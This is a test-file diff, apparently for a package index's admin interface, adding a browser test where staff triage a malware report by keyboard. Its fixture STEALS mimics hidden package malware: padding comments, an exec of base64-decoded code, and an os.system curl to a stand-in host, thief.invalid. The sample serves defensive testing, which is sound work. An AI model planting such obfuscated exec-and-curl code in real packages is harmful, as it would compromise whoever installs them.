@@ -13,6 +13,8 @@ from tests.browser.test_project import overflow
 from tests.builders.wheels import wheel
 from warehouse.accounts.models import User
 from warehouse.http import offline
+from warehouse.packaging.models import File
+from warehouse.scanning.tasks import scan_file
 
 JSON = "application/vnd.pypi.simple.v1+json"
 
@@ -40,9 +42,10 @@ def fits(page):
 def upload(index):
     """Publishes a project of somebody's own."""
 
-    def upload(name):
+    def upload(name, source=b""):
         token = index.token(index.person(f"owner-of-{name}"))
-        index.upload(token, f"{name}-1.0-py3-none-any.whl", wheel(name), name=name)
+        content = wheel(name, extra={f"{name}/__init__.py": source})
+        index.upload(token, f"{name}-1.0-py3-none-any.whl", content, name=name)
 
     return upload
 
@@ -95,6 +98,44 @@ def test_a_reported_project_is_gone_at_once_and_comes_back(
     decides(page, "It was a test.")
     page.wait_for_url(f"**/admin/projects/{name}/")
     assert is_shown(index, name)
+
+
+STEALS = (
+    b"import base64, os\n"
+    + b"# nothing to see here\n" * 60
+    + b"exec(base64.b64decode(b'cHJpbnQoMSk='))\n"
+    + b"os.system('curl https://thief.invalid')\n"
+)
+
+
+def test_a_report_is_worked_through_by_keyboard(page, index, upload, report):
+    for name, source in (("first", STEALS), ("second", b"x = 1\n")):
+        upload(name, source)
+        report(name)
+    staff = index.person("night-shift")
+    with offline(index.registry) as request:
+        for file in request.db.query(File):
+            scan_file(request, str(file.id))
+        request.db.query(User).filter_by(username=staff).one().is_superuser = True
+    page.set_viewport_size({"width": 360, "height": 800})
+    sign_in(page, staff)
+    page.goto("/admin/malware_reports/")
+    page.get_by_role("link", name="first", exact=True).focus()
+    page.keyboard.press("Enter")
+    page.get_by_role("heading", name="Look here first").wait_for()
+    fits(page)
+    page.keyboard.press("o")
+    page.wait_for_url("**/?member=first/__init__.py#L62")
+    fits(page)
+    page.keyboard.press("n")
+    assert page.evaluate("document.activeElement.id") == "L63"
+    page.keyboard.press("p")
+    assert page.evaluate("document.activeElement.id") == "L62"
+    page.keyboard.press("3")
+    decides(page, "It runs what it hides.")
+    page.get_by_role("status").get_by_text("first").first.wait_for()
+    assert not is_shown(index, "first")
+    page.get_by_role("heading", name="second").wait_for()
 
 
 @pytest.fixture
